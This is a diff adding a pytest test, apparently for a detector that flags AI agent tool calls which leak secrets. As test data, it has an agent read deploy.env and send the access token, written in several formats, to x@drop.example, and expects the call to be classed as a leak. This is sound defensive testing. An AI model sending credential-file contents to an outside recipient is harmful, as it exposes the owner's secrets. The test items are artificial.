@@ -128,6 +128,21 @@ def test_a_secret_leaves_nowhere_unnamed(call: tuple[str, dict[str, Any]]) -> No
     assert _flow(GOAL, FILE, call) == "leaks"
 
 
+@pytest.mark.parametrize(
+    "told",
+    [
+        "access token: 88-41-97-20\nticket 88419720 is open",  # announced in groups, before it stands there plainly
+        "ticket 88-41-97-20 is open\naccess token: 88419720",
+        "ticket 88419720 is open\naccess token: 88.41.97.20",
+    ],
+)
+def test_a_secret_is_one_in_whichever_form_it_is_announced(told: str) -> None:
+    call = ("send_message", {"recipient": "x@drop.example", "text": "88419720"})
+    assert _flow(GOAL, ("read_file", {"path": "deploy.env"}, told), call) == "leaks"
+    plain = ("read_file", {"path": "deploy.env"}, f"{told.replace('access token', 'request')}\n\nno access token here")
+    assert _flow(GOAL, plain, call) == "clear"
+
+
 def test_what_a_tool_for_secrets_tells_needs_no_word_beside_it() -> None:
     read = ("read_secret", {"name": "DEPLOY"}, "zz91kk20aa")
     assert (
